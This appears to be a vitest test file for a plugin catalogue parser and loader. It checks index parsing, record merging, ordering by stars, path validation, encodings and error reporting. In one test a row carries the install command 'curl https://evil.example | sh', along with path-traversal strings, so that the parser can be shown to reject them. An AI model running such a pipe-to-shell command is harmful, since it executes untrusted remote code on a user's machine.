import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { toIndexDocument, toRecord } from './catalogue.ts'
import { loadCatalogue } from './load.ts'
import { CatalogueFileError, parseCatalogue } from './parse.ts'

const INDEX = {
  generated: '2026-05-06T07:08:09.010Z',
  count: 3,
  site: 'https://plugins.test',
  fields: ['npm', 'fullName', 'install', 'path', 'category', 'colour'],
  plugins: [
    [null, 'one/alone', 'dsh plugin --profile web add github:one/alone', '/plugins/one-alone', 'ui', 'red'],
    ['@two/pack', 'two/repo#packages/pack', 'dsh plugin --profile web add @two/pack', null, null, null],
    [null, 'Three/Nowhere', null, null, 'fun', null],
  ],
}
/** Returns an index with other rows. */
const indexOf = (...plugins: readonly unknown[]) => ({ ...INDEX, count: plugins.length, plugins })
const RECORD = {
  fullName: 'three/nowhere',
  summary: 'Known after all.',
  summaryZh: null,
  category: 'fun',
  stars: 5,
  license: null,
  npmPackage: null,
  installKind: 'unknown',
  install: null,
  installable: false,
  installOptions: [],
  riskFlags: [],
  repoUrl: 'https://github.com/three/nowhere',
  url: 'https://plugins.test/plugins/three-nowhere',
  installCheck: 'failed',
}
const ENVELOPE = { total: 1, count: 1, results: [RECORD] }

describe('parseCatalogue', () => {
  test('reads an index by the names of its columns, and sets fields that it lacks to null', () => {
    const catalogue = parseCatalogue([INDEX])
    expect(catalogue).toMatchObject({ generated: INDEX.generated, site: INDEX.site, rejected: [], successRate: null })
    expect(toIndexDocument(catalogue, INDEX.site).plugins).toEqual([
      ['one/alone', 'ui', 'dsh plugin --profile web add github:one/alone', '/plugins/one-alone', null],
      ['two/repo#packages/pack', null, 'dsh plugin --profile web add @two/pack', null, '@two/pack'],
      ['Three/Nowhere', 'fun', null, null, null],
    ])
    const records = catalogue.listings.map((listing) => toRecord(listing, INDEX.site))
    expect(records.map(({ installKind }) => installKind)).toEqual(['github', 'npm', 'unknown'])
    const [directory] = parseCatalogue([indexOf([null, 'four/repo#a/b', null, null, null])]).listings
    expect(directory?.record.installKind, 'kind of an unpublished subdirectory').toBe('github')
    expect(records[1]).toMatchObject({
      summary: null,
      summaryZh: null,
      license: null,
      installCheck: null,
      stars: 0,
      installable: true,
      riskFlags: [],
      repoUrl: 'https://github.com/two/repo',
      url: 'https://github.com/two/repo',
      subpath: 'packages/pack',
    })
    // An index does not contain the origin of its listings.
    expect(records.map(({ inRegistry }) => inRegistry)).toEqual([null, null, null])
  })

  test('reads an envelope and a bare array of records unchanged', () => {
    for (const document of [ENVELOPE, [RECORD]]) {
      const catalogue = parseCatalogue([document])
      expect(catalogue.site).toBe('https://plugins.test')
      expect(catalogue.listings.map((listing) => toRecord(listing, 'https://plugins.test'))).toEqual([RECORD])
      expect(catalogue.listings[0]?.searchTexts).toEqual(['THREE/NOWHERE', 'KNOWN AFTER ALL.'])
      expect(catalogue.successRate).toBe(0)
    }
  })

  test('prefers a record over the index row of the same listing, in any order and case', () => {
    for (const documents of [
      [INDEX, ENVELOPE],
      [ENVELOPE, INDEX],
    ]) {
      const { listings, generated } = parseCatalogue(documents)
      expect(generated).toBe(INDEX.generated)
      expect(listings.map(({ record }) => record.fullName)).toEqual([
        'one/alone',
        'two/repo#packages/pack',
        'three/nowhere',
      ])
    }
  })

  test('keeps the order of the index, and sorts listings that exist only as records into it by their stars', () => {
    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars, url: RECORD.repoUrl })
    const row = (fullName: string) => [null, fullName, null, null, null]
    const index = indexOf(...['a/a', 'b/b#one', 'c/c', 'b/b#two', 'd/d', 'e/e'].map(row))
    const records = [record('d/d', 30), record('x/x', 40), record('b/b#one', 50), record('y/y', 7)]
    for (const documents of [
      [index, records],
      [records, index],
    ]) {
      const { listings } = parseCatalogue(documents)
      expect(listings.map(({ record }) => [record.fullName, record.stars])).toEqual([
        // Its own stars are unknown; the next listing of the index has 50.
        ['a/a', 50],
        ['b/b#one', 50],
        // The same repository as b/b#one.
        ['c/c', 50],
        ['b/b#two', 50],
        ['x/x', 40],
        ['d/d', 30],
        ['y/y', 7],
        ['e/e', 0],
      ])
    }
  })

  test('sorts by the stars of the records where the index is in another order', () => {
    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars, url: RECORD.repoUrl })
    const index = indexOf(...['a/a', 'b/b', 'c/c', 'd/d'].map((name) => [null, name, null, null, null]))
    const { listings } = parseCatalogue([index, [record('a/a', 3), record('c/c', 9), record('d/d', 5)]])
    expect(listings.map(({ record }) => [record.fullName, record.stars])).toEqual([
      ['b/b', 9],
      ['c/c', 9],
      ['d/d', 5],
      ['a/a', 3],
    ])
  })

  test('takes the instant of the newest index, or now without an index', () => {
    const older = { ...INDEX, generated: '2026-05-05T00:00:00.000Z' }
    expect(parseCatalogue([older, INDEX]).generated).toBe(INDEX.generated)
    const before = new Date().toISOString()
    const { generated } = parseCatalogue([ENVELOPE])
    expect(generated >= before && generated <= new Date().toISOString()).toBe(true)
  })

  test('leaves out rows that break the contract, and reports why', () => {
    const { listings, rejected } = parseCatalogue([
      indexOf(['x', 'no slash', null, null, null], 'text', ...INDEX.plugins),
      { results: [{ ...RECORD, installable: true }] },
    ])
    expect(listings).toHaveLength(3)
    expect(rejected).toEqual([
      expect.stringMatching(/^row 0: fullName: /),
      expect.stringMatching(/^row 1: /),
      expect.stringContaining('installable is true exactly when'),
    ])
  })

  test('leaves out commands that install something else, and names every fault of a row', () => {
    const { listings, rejected } = parseCatalogue([
      indexOf(
        ['@two/other', 'two/repo', 'dsh plugin --profile web add @two/pack', null, null],
        ['', 'no slash', 'curl https://evil.example | sh', '/plugins/../../escaped', null],
        [null, 'two/repo#sub', 'dsh plugin --profile web add github:two/repo', null, null],
        [null, 'One/Alone', null, null, null],
        ...INDEX.plugins,
      ),
      [{ ...RECORD, npmPackage: 'a', install: 'dsh plugin --profile web add b', installable: true }],
    ])
    expect(listings.map(({ record }) => record.fullName)).toEqual([
      'One/Alone',
      'two/repo#packages/pack',
      'Three/Nowhere',
    ])
    expect(rejected).toEqual([
      expect.stringMatching(/^row 0: install: /),
      expect.stringMatching(/^row 1: fullName: .+; path: .+; npm: .+; install: /),
      expect.stringMatching(/^row 2: install: /),
      'row 4: fullName: row 3 has it already',
      expect.stringMatching(/^row 0: install: .*different package/),
    ])
  })

  test.for([
    ['https://h.example/plugins/dir/plugins/o-r', 'https://h.example/plugins/dir', '/plugins/o-r'],
    ['https://h.example/dir/plugins/o-r', 'https://h.example/dir', '/plugins/o-r'],
    ['https://h.example/elsewhere/o-r', null, null],
    ['https://h.example/plugins/%2e%2e/o-r', null, null],
  ])('reads the site and the path of the page %s', ([url, site, path]) => {
    const catalogue = parseCatalogue([[{ ...RECORD, url }]])
    expect([catalogue.site, catalogue.listings[0]?.path]).toEqual([site, path])
  })

  test.for([
    '/plugins/../../escaped',
    '/plugins/a/../b',
    '/plugins/.hidden',
    '/plugins/a\nb',
    '/plugins/',
    '/elsewhere/a',
  ])('leaves out a row whose page is %j', (path) => {
    const { rejected } = parseCatalogue([indexOf([null, 'a/b', null, path, null])])
    expect(rejected).toEqual([expect.stringContaining('path: a path such as /plugins/owner-repo')])
  })

  test('is as new as the newest verdict, so that clients take a change of verdicts alone', () => {
    const checked = (installCheckedAt: string) => [INDEX, [{ ...RECORD, installCheckedAt }]]
    expect(parseCatalogue(checked('2026-08-01T00:00:00.000Z')).generated).toBe('2026-08-01T00:00:00.000Z')
    expect(parseCatalogue(checked('2026-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
    expect(parseCatalogue(checked('2999-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
  })

  test('names a row whose page another listing has, in the same document or another one', () => {
    const rows = indexOf([null, 'a/a', null, '/plugins/x', null], [null, 'b/b', null, '/plugins/x', null])
    const record = { ...RECORD, url: 'https://plugins.test/plugins/x' }
    const { listings, rejected } = parseCatalogue([rows, [record]])
    expect(listings.map((listing) => listing.record.fullName)).toEqual(['a/a'])
    expect(rejected).toEqual(['row 1: path: a/a has /plugins/x already', 'row 0: path: a/a has /plugins/x already'])
  })

  test('names a record whose install check is in the future', () => {
    const { listings, rejected } = parseCatalogue([[{ ...RECORD, installCheckedAt: '2999-01-01T00:00:00.000Z' }]])
    expect(listings).toEqual([])
    expect(rejected).toEqual(['row 0: installCheckedAt: 2999-01-01T00:00:00.000Z is in the future'])
  })

  test.for([
    ['an index with fewer rows than it announces', { ...INDEX, count: 99 }, 'count is 99, but there are 3 rows'],
    ['an answer with fewer rows than it announces', { ...ENVELOPE, count: 2 }, 'count is 2, but there are 1 rows'],
    ['an index from the future', { ...INDEX, generated: '2099-01-01T00:00:00.000Z' }, 'in the future'],
  ] as const)('refuses %s', ([, document, reason]) => {
    expect(() => parseCatalogue([document])).toThrow(CatalogueFileError)
    expect(() => parseCatalogue([document])).toThrow(reason)
  })

  test('reads 200,000 rows', () => {
    const plugins = Array.from({ length: 200_000 }, (_, number) => [null, `o/r${number}`, null, null, null])
    expect(parseCatalogue([{ ...INDEX, count: plugins.length, plugins }]).listings).toHaveLength(200_000)
  })

  test.for([null, 'text', {}, { plugins: [] }, { ...INDEX, generated: 'yesterday' }])(
    'rejects the document %o',
    (document) => {
      expect(() => parseCatalogue([document])).toThrow(CatalogueFileError)
    },
  )
})

describe('loadCatalogue', () => {
  let directory: string
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'plugmark-document-'))
    await writeFile(join(directory, 'index.json'), JSON.stringify(INDEX))
    await writeFile(join(directory, 'cut.json'), '{"generated":')
    await writeFile(join(directory, 'other.json'), '{"name":"x"}')
  })
  afterAll(() => rm(directory, { recursive: true }))

  test('reads a catalogue from a file', async () => {
    expect((await loadCatalogue(join(directory, 'index.json'))).listings).toHaveLength(3)
  })

  test.for(['docs/directory.md', 'mock-api/package/README.md', 'mock-api/package/README.zh.md'])(
    'reads the catalogue that %s shows',
    async (name) => {
      const text = await readFile(join(import.meta.dirname, '../..', name), 'utf8')
      const file = join(directory, 'example.json')
      await writeFile(file, /```json\n([^`]+)```/.exec(text)![1]!)
      const { listings, rejected } = await loadCatalogue(file)
      expect(rejected).toEqual([])
      expect(listings.length).toBe(JSON.parse(await readFile(file, 'utf8')).count)
    },
  )

  test.for([
    ['UTF-8 with a byte order mark', (text: string) => Buffer.from(`\ufeff${text}`)],
    ['UTF-16, as PowerShell writes it', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')],
    ['UTF-16 without a byte order mark', (text: string) => Buffer.from(text, 'utf16le')],
    ['UTF-16 of a big-endian machine', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
  ] as const)('reads %s', async ([, encode]) => {
    const file = join(directory, 'encoded.json')
    await writeFile(file, encode(JSON.stringify([{ ...RECORD, summary: '总之' }])))
    expect((await loadCatalogue(file)).listings[0]?.record.summary).toBe('总之')
  })

  test('names a file that is in another encoding, and says what to do', async () => {
    const file = join(directory, 'latin.json')
    await writeFile(file, Buffer.from('["käse"]', 'latin1'))
    await expect(loadCatalogue(file)).rejects.toThrow(/latin\.json.*Save it as UTF-8/)
  })

  test('names file, line and column of a wrong count', async () => {
    const file = join(directory, 'count.json')
    await writeFile(file, JSON.stringify({ ...INDEX, count: 99 }, null, 2))
    await expect(loadCatalogue(file)).rejects.toThrow(/count\.json:3:12: count is 99/)
  })

  test('names file, line and column of a row that breaks the contract', async () => {
    const file = join(directory, 'bad-row.json')
    const plugins = [INDEX.plugins[0], ['x', 'no slash', null, null, null], INDEX.plugins[1]]
    await writeFile(file, JSON.stringify(indexOf(...plugins), null, 2))
    const { listings, rejected } = await loadCatalogue(join(directory, 'index.json'), file)
    expect(listings).toHaveLength(3)
    expect(rejected).toEqual([expect.stringMatching(/bad-row\.json:\d+:5: row 1: fullName: owner\/repo/)])
    const line = Number(/:(\d+):/.exec(rejected[0]!)![1])
    const text = await readFile(file, 'utf8')
    expect(
      text
        .split('\n')
        .slice(line - 1, line + 2)
        .join(''),
    ).toContain('no slash')
  })

  test('names 20,000 faulty rows in time that grows with their number', async () => {
    const file = join(directory, 'many.json')
    const plugins = Array.from({ length: 20_000 }, () => ['x', 'no slash', null, null, null])
    await writeFile(file, JSON.stringify(indexOf(...plugins), null, 2))
    const start = process.cpuUsage()
    const { rejected } = await loadCatalogue(file)
    expect(rejected.at(-1)).toMatch(/many\.json:140007:5: row 19999: /)
    expect(process.cpuUsage(start).user / 1e6).toBeLessThan(10)
  })

  test.for([
    ['missing.json', 'no such file'],
    ['cut.json', 'is not JSON'],
    ['other.json', 'neither an index document'],
  ])('names the file in the error for %s, and says “%s”', async ([name, reason]) => {
    const error = await loadCatalogue(join(directory, name!)).catch((caught) => caught)
    expect(error).toBeInstanceOf(CatalogueFileError)
    expect(error.message).toContain(name)
    expect(error.message).toContain(reason)
  })

  test('names which of several files is no catalogue', async () => {
    const files = ['index.json', 'other.json'].map((name) => join(directory, name))
    await expect(loadCatalogue(...files)).rejects.toThrow(/other\.json:1:1: neither an index document/)
  })
})
